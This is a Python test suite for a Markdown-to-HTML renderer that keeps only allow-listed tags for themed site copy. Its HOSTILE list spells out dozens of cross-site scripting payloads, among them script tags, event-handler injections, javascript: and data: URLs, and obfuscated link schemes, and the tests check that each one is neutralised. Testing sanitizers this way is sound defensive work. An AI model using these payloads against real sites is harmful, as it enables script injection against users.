"""themes.copy: Markdown copy blocks come out as allow-listed HTML, whatever goes in."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from themes.copy import ALLOWED_TAGS, render_copy
from whitelabel.errors import ValidationFailed

REL = 'rel="noopener noreferrer nofollow"'


class Elements(HTMLParser):
    """What a browser would see: every start tag with its attributes, and comments."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def tags_of(html: str) -> set[str]:
    return {tag for tag, _ in Elements(html).found}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("Hello **world**", "<p>Hello <strong>world</strong></p>\n"),
        ("*em* and `code`", "<p><em>em</em> and <code>code</code></p>\n"),
        ("# Title", "<h2>Title</h2>\n"),
        ("## Sub", "<h2>Sub</h2>\n"),
        ("### Sub", "<h3>Sub</h3>\n"),
        ("#### Sub", "<h4>Sub</h4>\n"),
        ("###### Deep", "<h4>Deep</h4>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>\n"),
        ("```\nx < y\n```", "<pre><code>x &lt; y\n</code></pre>\n"),
        ("line  \nbreak", "<p>line<br>\nbreak</p>\n"),
        ("a\n\n---\n\nb", "<p>a</p>\n\n<p>b</p>\n"),
        ("", ""),
        (
            "[Help](https://help.example.org/a?b=c)",
            f'<p><a href="https://help.example.org/a?b=c" {REL}>Help</a></p>\n',
        ),
        ("[Sign up](/signup)", f'<p><a href="/signup" {REL}>Sign up</a></p>\n'),
        ("[Top](#top)", f'<p><a href="#top" {REL}>Top</a></p>\n'),
        (
            "[Mail](mailto:help@example.org)",
            f'<p><a href="mailto:help@example.org" {REL}>Mail</a></p>\n',
        ),
        (
            '[T](http://example.org "Title")',
            f'<p><a href="http://example.org" title="Title" {REL}>T</a></p>\n',
        ),
    ],
)
def test_markdown_renders_to_allowed_html(source: str, expected: str) -> None:
    assert render_copy(source) == expected


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">x</a>',
    "<p onclick=alert(1)>x</p>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<!-- <script>alert(1)</script> -->",
    "<form action=https://evil.example><input name=p></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=x></object><embed src=x>",
    "<base href=https://evil.example/>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/\\evil.example)",
    "[x](relative/path)",
    "[x]: javascript:alert(1)\n\n[y][x]",
    "<javascript:alert(1)>",
    '<https://evil.example/" onmouseover="alert(1)>',
    "![x](https://tracker.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x.png)',
    "![<img src=x onerror=alert(1)>](x.png)",
    "[![i](x.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<scr<script>ipt>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    '[x](https://example.org/" onclick="alert(1))',
]


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_is_neutralised(source: str) -> None:
    html = render_copy(source)
    parsed = Elements(html)
    assert not parsed.comments
    for tag, attrs in parsed.found:
        assert tag in ALLOWED_TAGS
        allowed = {"a": {"href", "title", "rel"}, "ol": {"start"}}.get(tag, set())
        assert set(attrs) <= allowed, (tag, attrs)
        if tag == "a":
            assert attrs["rel"] == "noopener noreferrer nofollow"
            href = attrs.get("href")
            assert href is None or re.match(r"(https?:|mailto:|/(?![/\\])|#)", href), href


def test_raw_html_is_shown_as_text_not_dropped() -> None:
    assert render_copy("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"


def test_images_become_their_alt_text() -> None:
    assert render_copy("![our campus](https://x.example/c.png)") == "<p>our campus</p>\n"
    assert render_copy("![<b>](x.png)") == "<p>&lt;b&gt;</p>\n"


def test_disallowed_links_keep_their_text() -> None:
    assert render_copy("[far](//evil.example)") == f"<p><a {REL}>far</a></p>\n"
    assert "javascript" in render_copy("[x](javascript:alert(1))")  # left as plain text
    assert "<a" not in render_copy("[x](javascript:alert(1))")


def test_length_limit() -> None:
    assert render_copy("x" * 5000) == "<p>" + "x" * 5000 + "</p>\n"
    with pytest.raises(ValidationFailed) as caught:
        render_copy("x" * 5001)
    assert caught.value.code == "copy_too_long"
    assert caught.value.detail == {"max": 5000, "length": 5001}


def test_pathological_nesting_stays_bounded() -> None:
    html = render_copy(">" * 2000 + " deep")
    assert tags_of(html) <= ALLOWED_TAGS
    html = render_copy("[" * 990 + "x" + "](y)" * 990)
    assert tags_of(html) <= ALLOWED_TAGS
